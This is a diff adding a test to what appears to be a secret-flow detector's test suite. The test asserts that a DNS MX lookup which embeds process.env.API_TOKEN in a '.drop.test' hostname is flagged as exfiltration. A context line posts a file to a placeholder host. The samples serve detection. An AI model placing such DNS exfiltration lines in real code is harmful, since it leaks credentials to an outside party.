@@ -50,6 +50,13 @@ describe("Python: what is fetched runs on rarely used ways, too", () => {
   });
 });
 
+test("JavaScript: a secret leaves in a name that a resolver made for it looks up", () => {
+  const send = `await new Resolver().resolveMx(process.env.API_TOKEN + ".drop.test")`;
+  expect(javascript(`import { Resolver } from "node:dns/promises";`, send).join("\n")).toContain(
+    "API_TOKEN -> network:dns *.drop.test",
+  );
+});
+
 describe("Python: secrets leave on rarely used ways, too", () => {
   test("in a picture that was saved with them", () => {
     const send = `requests.post("https://pictures.test/in", files={"f": open("b.png", "rb")})`;
